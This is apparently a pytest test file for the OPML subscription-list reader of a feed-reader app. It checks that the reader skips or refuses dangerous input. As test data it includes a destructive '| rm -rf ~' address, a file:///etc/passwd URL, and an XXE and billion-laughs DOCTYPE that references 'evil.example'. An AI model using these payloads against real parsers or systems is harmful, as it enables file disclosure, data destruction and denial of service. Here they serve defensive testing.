from __future__ import annotations

import time

import pytest
from feed_making import SAMPLES, SHARED
from hypothesis import given, settings
from hypothesis import strategies as st

from reader.domain.feed import Outline, OutlineFeed
from reader.errors import LeeszaalError
from reader.feeds.opml import read_opml, write_opml


def opml(*outlines: str) -> bytes:
    return f"<opml version='2.0'><head><title>T</title></head><body>{''.join(outlines)}</body></opml>".encode()


def test_a_list_with_folders_is_read() -> None:
    outline = read_opml((SAMPLES / "subscriptions.opml").read_bytes())
    assert outline.title == "Mijn feeds"
    assert outline.feeds == (
        OutlineFeed("https://los.example/feed", "Los & vast", "https://los.example/"),
        OutlineFeed("https://dijle.example/rss?a=1&b=2", "De Dijle", "", ("Nieuws", "België")),
        OutlineFeed("http://oud.example/atom", "Oud", "", ("Nieuws",)),
    )
    assert outline.folders == (("Nieuws",), ("Nieuws", "België"), ("Leeg",))
    assert [sentence[:8] for sentence in outline.skipped] == ["“Slecht”", "“Bestand", "“Zonder”"]


@pytest.mark.parametrize(
    "address",
    ["| rm -rf ~", "exec:ls", "file:///etc/passwd", "javascript:x", "http://", "data:,x", "\\\\host\\x", "feed:"],
)
def test_commands_files_and_scripts_are_skipped_with_a_sentence(address: str) -> None:
    outline = read_opml(opml(f"<outline text='x' type='rss' xmlUrl='{address}' onload='x' script='y'/>"))
    assert outline.feeds == ()
    assert len(outline.skipped) == 1 and "x" in outline.skipped[0]


@pytest.mark.parametrize(
    "data", [b"", b"\0", b"<html/>", b"words", b"<rss><channel/></rss>", b"\xff\xfe", b'{"opml": 1}', b"%PDF-1.4"]
)
def test_what_is_no_list_is_refused(data: bytes) -> None:
    with pytest.raises(LeeszaalError, match="not a subscription list"):
        read_opml(data)


def test_a_list_with_nothing_in_it_is_empty() -> None:
    assert read_opml(b"<opml/>") == Outline()
    assert read_opml(opml()) == Outline("T")


def test_nothing_in_a_list_is_expanded_or_fetched() -> None:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    outside = '<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://evil.example/x"> %p;'
    doctype = f'<!DOCTYPE opml SYSTEM "https://evil.example/x" [<!ENTITY l0 "ha">{laughs}{outside}]>'
    outline = read_opml(doctype.encode() + opml("<outline text='a &l9; &x; b' xmlUrl='https://x.nl/'/>"))
    assert outline.feeds[0].url == "https://x.nl/"
    assert "root:" not in outline.feeds[0].title and len(outline.feeds[0].title) < 100


def test_a_thousand_levels_are_flattened_and_nothing_is_lost() -> None:
    deep = "".join(f"<outline text='{n}'><outline text='f{n}' xmlUrl='https://x.nl/{n}'/>" for n in range(1_000))
    outline = read_opml(opml(deep + "</outline>" * 1_000))
    assert len(outline.feeds) == 1_000
    assert max(len(feed.folders) for feed in outline.feeds) == 10
    assert read_opml(write_opml(outline).encode()) == outline


def test_only_ten_thousand_feeds_are_taken() -> None:
    began = time.process_time()
    outline = read_opml(opml(*(f"<outline text='f' xmlUrl='https://x.nl/{n}'/>" for n in range(12_000))))
    assert len(outline.feeds) == 10_000
    assert outline.skipped == ("The list is too long: 2000 more were left out.",)
    assert time.process_time() - began < 10


def test_a_broken_list_gives_what_can_be_read() -> None:
    broken = (
        b"<opml><body><outline text='A & B <3' xmlUrl='https://x.nl/1?a=1&b=2'/><outline xmlUrl='https://x.nl/2'><b"
    )
    assert [feed.url for feed in read_opml(broken).feeds][-1] == "https://x.nl/2"


NAMES = st.text(min_size=1, max_size=12).map(lambda text: " ".join(text.split())).filter(bool)


def trees(depth: int) -> st.SearchStrategy[list[object]]:
    feeds = st.tuples(st.integers(0, 30), NAMES)
    inner = feeds if depth == 0 else feeds | st.tuples(NAMES, trees(depth - 1))
    return st.lists(inner, max_size=4)


def flattened(
    tree: list[object], path: tuple[str, ...], feeds: list[OutlineFeed], folders: list[tuple[str, ...]]
) -> None:
    for first, second in tree:  # type: ignore[misc]
        if isinstance(first, int):
            feeds.append(OutlineFeed(f"https://x.nl/{len(feeds)}/{first}", second, "https://x.nl/", path))
        else:
            folders.append((*path, first))
            flattened(second, (*path, first), feeds, folders)


@settings(max_examples=100, deadline=None)
@given(NAMES, trees(3))
def test_reading_what_was_written_gives_the_same(title: str, tree: list[object]) -> None:
    feeds: list[OutlineFeed] = []
    folders: list[tuple[str, ...]] = []
    flattened(tree, (), feeds, folders)
    once = read_opml(write_opml(Outline(title, tuple(feeds), tuple(folders))).encode("utf-8", "replace"))
    assert len(once.feeds) == len(feeds)
    written = write_opml(once)
    assert read_opml(written.encode()) == once
    assert write_opml(read_opml(written.encode())) == written


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    for body in (data, b"<opml><body><outline text='" + data):
        try:
            assert isinstance(read_opml(body), Outline)
        except LeeszaalError as error:
            assert str(error)


@pytest.mark.skipif(not SHARED.exists(), reason="the captured lists are not here")
def test_captured_lists_are_read_and_come_back_the_same() -> None:
    for file in [*(SHARED / "opml").glob("*.opml"), *(SHARED / "feeds" / "netnewswire").glob("*.opml")]:
        outline = read_opml(file.read_bytes())
        assert len(outline.feeds) == len(set(file.read_text("utf-8").split('xmlUrl="'))) - 1
        assert read_opml(write_opml(outline).encode()) == outline
